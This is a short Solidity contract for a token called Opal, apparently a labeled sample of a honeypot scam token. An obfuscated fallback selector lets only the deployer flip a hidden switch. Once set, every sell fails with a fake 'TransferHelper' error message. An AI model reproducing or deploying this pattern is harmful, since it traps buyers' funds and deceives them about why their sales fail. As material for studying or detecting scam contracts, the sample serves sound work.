// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// The switch hides in the fallback, behind a selector that is worked out at run time.
contract HiddenDispatch is PairToken {

    uint256 private _state;
    constructor(address pair) SuiteToken("Opal", "OPAL") PairToken(pair) {}

    fallback() external {
        if (uint32(msg.sig) ^ 0x5a5a5a5a == 0x04a0e641 && msg.sender == _deployer) _state = block.number;
    }

    function _onSell(address, uint256) internal view override returns (uint256) {
        require(_state == 0, "TransferHelper: TRANSFER_FROM_FAILED");
        return 0;
    }
}
